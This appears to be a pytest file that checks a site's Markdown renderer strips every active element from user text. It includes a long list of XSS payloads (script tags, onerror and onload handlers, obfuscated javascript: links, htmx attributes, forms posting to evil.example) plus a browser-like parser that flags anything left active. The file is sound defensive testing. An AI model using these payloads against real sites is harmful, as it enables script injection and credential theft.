"""What people write comes out as text and a few tags, and never as anything that acts."""

import re
from html.parser import HTMLParser

import hypothesis
import pytest
from hypothesis import given
from hypothesis import strategies as st

from alliance.templatetags.commonweal import markdown
from alliance.text import TAGS, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div hx-get='/staff/' hx-trigger='load'>x</div>",
    "<p data-hx-post='/staff/keys/'>x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/pixel.gif)",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://a.example \"onmouseover=alert(1)\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "<https://a.example/<script>alert(1)</script>>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<b onmouseover=alert(1)>x</b>**",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "[x](//evil.example)",
]  # fmt: skip


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            is_link = tag == "a" and name == "href" and not re.match(
                r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", address
            )  # fmt: skip
            # A title is text, whatever it says.
            if not is_link and (tag, name) not in {("a", "rel"), ("a", "title")}:
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def active(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_comes_out(payload: str) -> None:
    assert active(render_markdown(payload)) == []
    assert active(render_markdown(f"Hello **{payload}** and [a]({payload}) `{payload}`")) == []


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith("<") and "<!" not in p])
def test_control_the_same_payload_unrendered_is_found(payload: str) -> None:
    if "?xml" in payload or payload.startswith(("<https", "<scr<")):
        payload = f"<script>{payload}"
    if payload.endswith("//"):
        payload += ">"

    assert active(payload) != []


@hypothesis.settings(max_examples=80, deadline=None)
@given(st.text(st.sampled_from("<>\"'`&;:/()[]!*_#-=\\ \n\tabcjsx1"), max_size=60))
def test_nothing_active_comes_out_of_any_jumble(text: str) -> None:
    assert active(render_markdown(text)) == []


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("One.\n\nTwo **loud** and *soft*.", "<p>One.</p>\n<p>Two <strong>loud</strong> and "
         "<em>soft</em>.</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("1. a", "<ol>\n<li>a</li>\n</ol>\n"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("[us](https://oak.example/a?b=1&c=2)",
         '<p><a href="https://oak.example/a?b=1&amp;c=2" rel="nofollow ugc noopener">us</a></p>\n'),
        ("[write](mailto:a@oak.example)",
         '<p><a href="mailto:a@oak.example" rel="nofollow ugc noopener">write</a></p>\n'),
        ("# Big\n\n### Small\n\n#### Small", "<h3>Big</h3>\n<h4>Small</h4>\n<h4>Small</h4>\n"),
        ("### Only\n\n### Two", "<h3>Only</h3>\n<h3>Two</h3>\n"),
        ("5 < 6 & 7 > 3", "<p>5 &lt; 6 &amp; 7 &gt; 3</p>\n"),
        ("", ""),
    ],
)  # fmt: skip
def test_what_is_meant_well_comes_out(source: str, html: str) -> None:
    assert render_markdown(source) == html
    assert markdown(source) == html


def test_headings_begin_below_the_pages_own() -> None:
    assert render_markdown("# One\n\n## Two", 2) == "<h2>One</h2>\n<h3>Two</h3>\n"
